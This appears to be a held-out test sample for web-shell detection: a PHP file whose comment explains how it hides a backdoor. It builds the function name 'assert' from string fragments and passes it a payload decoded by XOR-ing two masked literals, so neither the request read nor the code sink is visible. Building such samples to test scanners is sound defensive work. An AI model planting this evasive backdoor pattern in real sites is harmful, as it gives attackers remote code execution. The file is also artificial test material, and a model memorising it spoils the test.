<?php
// Held-out round D shape (team's own writing): the payload is two literal masks XOR-ed together;
// it calls a variable the page fills with a function name spelt in pieces, so the page itself
// shows neither a request read nor a code sink. Inert: the header is never sent by anything.
$p = 'as';
$q = 's';
$fire = $p . $q . 'ert';
$fire('K68L.I8OLNQI,O!-N=RKnsv}o5VX5U<*Zs2nM' ^ 'oPQ>Ka_*8/=%D*@I+O!cG(Q%Bf/6VxvE8ToGv');
